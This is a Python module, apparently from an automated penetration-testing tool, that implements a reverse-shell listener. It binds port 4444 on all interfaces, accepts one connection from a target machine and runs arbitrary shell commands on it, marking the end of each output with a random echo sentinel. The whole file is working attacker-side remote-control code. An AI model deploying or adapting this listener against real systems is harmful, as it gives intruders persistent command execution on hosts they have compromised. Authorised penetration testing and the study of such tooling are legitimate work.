"""Reverse-shell listener: accept one inbound connection from the target and
run commands over it in a persistent remote context."""

from __future__ import annotations

import errno
import socket
import threading
import time
import uuid

from .base import ToolResult

DEFAULT_LISTEN_PORT = 4444


class ListenerError(RuntimeError):
    pass


class PortInUse(ListenerError):
    pass


class NoConnectionYet(ListenerError):
    pass


class ConnectionClosed(ListenerError):
    pass


class ReverseListener:
    """Accepts a single reverse connection on a background thread; commands are
    terminated with a per-call random sentinel echoed by the remote shell."""

    def __init__(self, port: int = DEFAULT_LISTEN_PORT, bind_host: str = "0.0.0.0") -> None:
        self.port = port
        self.bind_host = bind_host
        self._server: socket.socket | None = None
        self._conn: socket.socket | None = None
        self._peer: tuple[str, int] | None = None
        self._lock = threading.Lock()

    @property
    def connected(self) -> bool:
        with self._lock:
            return self._conn is not None

    @property
    def peer(self) -> tuple[str, int] | None:
        with self._lock:
            return self._peer

    def start(self) -> None:
        if self._server is not None:
            return
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            server.bind((self.bind_host, self.port))
        except OSError as exc:
            server.close()
            if exc.errno in (errno.EADDRINUSE, errno.EACCES):
                raise PortInUse(f"port {self.port} is already in use") from exc
            raise
        server.listen(1)
        self.port = server.getsockname()[1]
        self._server = server
        accept_thread = threading.Thread(target=self._accept_loop, args=(server,), daemon=True)
        accept_thread.start()

    def _accept_loop(self, server: socket.socket) -> None:
        try:
            conn, peer = server.accept()
        except OSError:
            return
        with self._lock:
            self._conn = conn
            self._peer = (peer[0], peer[1])

    def wait_for_connection(self, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.connected:
                return True
            time.sleep(0.01)
        return self.connected

    def stop(self) -> None:
        with self._lock:
            if self._conn is not None:
                try:
                    self._conn.close()
                except OSError:
                    pass
                self._conn = None
            if self._server is not None:
                try:
                    self._server.close()
                except OSError:
                    pass
                self._server = None
            self._peer = None

    def exec(self, command: str, timeout: float = 300.0) -> ToolResult:
        with self._lock:
            conn = self._conn
        if conn is None:
            raise NoConnectionYet("no reverse connection established yet")
        sentinel = f"__AUTOPENTEST_REMOTE_{uuid.uuid4().hex}__"
        started = time.monotonic()
        try:
            conn.sendall(f"{command}\necho {sentinel}\n".encode("utf-8", "replace"))
        except OSError as exc:
            self._drop_connection()
            raise ConnectionClosed(f"reverse connection lost: {exc}") from exc
        chunks: list[bytes] = []
        deadline = time.monotonic() + timeout
        conn.settimeout(0.25)
        try:
            while True:
                if time.monotonic() > deadline:
                    return ToolResult.from_output(
                        f"error: remote command timed out after {timeout:g} seconds",
                        duration=time.monotonic() - started,
                    )
                try:
                    chunk = conn.recv(65536)
                except socket.timeout:
                    continue
                except OSError as exc:
                    self._drop_connection()
                    raise ConnectionClosed(f"reverse connection lost: {exc}") from exc
                if not chunk:
                    self._drop_connection()
                    raise ConnectionClosed("reverse connection closed by remote end")
                chunks.append(chunk)
                text = b"".join(chunks).decode("utf-8", "replace")
                marker = text.find(sentinel)
                if marker != -1:
                    output = text[:marker]
                    if output.endswith("\n"):
                        output = output[:-1]
                    return ToolResult.from_output(
                        output, duration=time.monotonic() - started
                    )
        finally:
            try:
                conn.settimeout(None)
            except OSError:
                pass

    def _drop_connection(self) -> None:
        with self._lock:
            if self._conn is not None:
                try:
                    self._conn.close()
                except OSError:
                    pass
                self._conn = None
                self._peer = None
